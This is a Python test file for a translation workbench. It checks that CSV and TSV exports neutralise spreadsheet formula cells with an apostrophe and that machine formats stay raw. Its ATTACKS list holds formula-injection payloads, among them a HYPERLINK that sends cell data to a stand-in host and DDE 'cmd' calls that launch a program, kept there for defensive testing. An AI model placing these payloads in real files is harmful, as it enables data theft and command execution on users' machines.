"""CSV and TSV cells a spreadsheet would run as a formula are neutralised with an apostrophe.

Issue 12 (low): cells starting with `=HYPERLINK(…)`, `+cmd|…` or `@` were exported raw, in the
glossary TSV too. Moses, TMX and XLIFF stay raw (no spreadsheet reads them).
"""

from __future__ import annotations

import csv
import io

import pytest

from workbench.export import (
    ExportPair,
    Languages,
    from_spreadsheet_cell,
    spreadsheet_cell,
    to_csv,
    to_moses,
    to_tmx,
    to_tsv,
    unescape_tsv_field,
)
from workbench.glossary import Entry, from_tsv
from workbench.glossary import to_tsv as glossary_tsv

LANGUAGES = Languages("fr-FR", "en-GB")
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_gets_an_apostrophe_and_comes_back_unchanged(text):
    assert spreadsheet_cell(text) == "'" + text
    assert from_spreadsheet_cell(spreadsheet_cell(text)) == text


@pytest.mark.parametrize("text", [
    "— Oui, dit-il.", "– Non !", "Le 14 juillet.", "-12", "+33", "-3,5", "", "'quoted'",
    "l'été", "a=b",
])
def test_ordinary_text_dialogue_dashes_and_numbers_are_left_alone(text):
    assert spreadsheet_cell(text) == text
    assert from_spreadsheet_cell(text) == text


def test_csv_and_tsv_exports_neutralise_formulas_in_every_cell():
    pair = ExportPair("=cmd|x", 0, ATTACKS[0], "@SUM(A1)", 0.5, "auto")
    rows = list(csv.reader(io.StringIO(to_csv([pair], LANGUAGES).decode("utf-8-sig"))))
    assert rows[1][:2] == ["'" + ATTACKS[0], "'@SUM(A1)"]
    assert rows[1][4] == "'=cmd|x"
    line = to_tsv([pair], LANGUAGES).decode().splitlines()[1].split("\t")
    assert [unescape_tsv_field(f) for f in line[:2]] == ["'" + ATTACKS[0], "'@SUM(A1)"]


def test_machine_formats_stay_raw():
    pair = ExportPair("doc", 0, "=1+1 source", "=1+1 target", 0.5, "auto")
    source, target = to_moses([pair])
    assert source == b"=1+1 source\n" and target == b"=1+1 target\n"
    assert b">=1+1 source<" in to_tmx([pair], LANGUAGES)


def test_the_glossary_tsv_neutralises_formulas_and_reads_them_back():
    entries = [Entry("=HYPERLINK(\"x\")", "+cmd|x", "@note"), Entry("— tiret", "-ation", "")]
    text = glossary_tsv(entries)
    assert text.splitlines()[0] == "'=HYPERLINK(\"x\")\t'+cmd|x\t'@note"
    assert text.splitlines()[1] == "— tiret\t'-ation"
    assert from_tsv(text) == entries
